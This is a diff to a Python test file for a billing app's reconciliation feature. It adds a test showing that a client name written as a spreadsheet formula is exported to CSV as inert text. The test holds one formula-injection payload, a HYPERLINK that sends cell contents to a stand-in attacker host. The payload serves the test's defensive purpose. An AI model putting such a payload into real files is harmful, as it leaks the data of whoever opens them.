@@ -42,7 +42,11 @@ class Client:
 
 
 def send_bills(
-    firm, clio, specs: list[dict[str, Any]], aggregate: bool = True
+    firm,
+    clio,
+    specs: list[dict[str, Any]],
+    aggregate: bool = True,
+    client_name: str = "Pat Client",
 ) -> tuple[Client, list[str], str]:
     """Staff send the bills in one envelope; answers the client, the bill ids, the link id."""
     settings = firm.get("/settings").json()
@@ -51,7 +55,7 @@ def send_bills(
         assert firm.put("/settings", settings).status_code == 200
     email = f"{clio.account}@client.example"
     made = [
-        clio.create_bill(client={"name": "Pat Client", "email": email}, **spec) for spec in specs
+        clio.create_bill(client={"name": client_name, "email": email}, **spec) for spec in specs
     ]
     ids = [str(m["id"]) for m in made]
     wait_synced(firm, ids)
@@ -403,6 +407,30 @@ def test_given_payments_clio_does_not_show_then_reconciliation_lists_them_until_
     assert firm.get("/reconciliation").json()["items"] == []
     assert client.outstanding() == {bill: 30_000}
     assert invoices(firm)[bill]["flags"] == []
+
+
+def test_given_a_client_named_like_a_formula_when_staff_open_the_reconciliation_csv_then_it_is_text(
+    new_firm, stripe_sandbox
+):
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    firm, clio = new_firm()
+    client, (bill,), _ = send_bills(firm, clio, [{"total_cents": 5_000}], client_name=hostile)
+    (session,) = client.sessions([bill], amount_cents=1_000)
+    stripe_sandbox.pay(session["id"])
+
+    answer = firm.get("/reconciliation", format="csv")
+
+    assert answer.status_code == 200, answer.text
+    header, *rows = list(csv.reader(io.StringIO(answer.text)))
+    (row,) = [r for r in rows if r[0] == bill]
+    cells = dict(zip(header, row, strict=True))
+    # The leading quote makes a spreadsheet show the name as text instead of running it.
+    assert cells["client_name"] == f"'{hostile}"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    assert (cells["action"], cells["to_record"]) == ("record_payment", "10.00")
 
 
 def test_given_a_refund_the_bank_returns_then_paid_gl_is_restored(new_firm, stripe_sandbox):
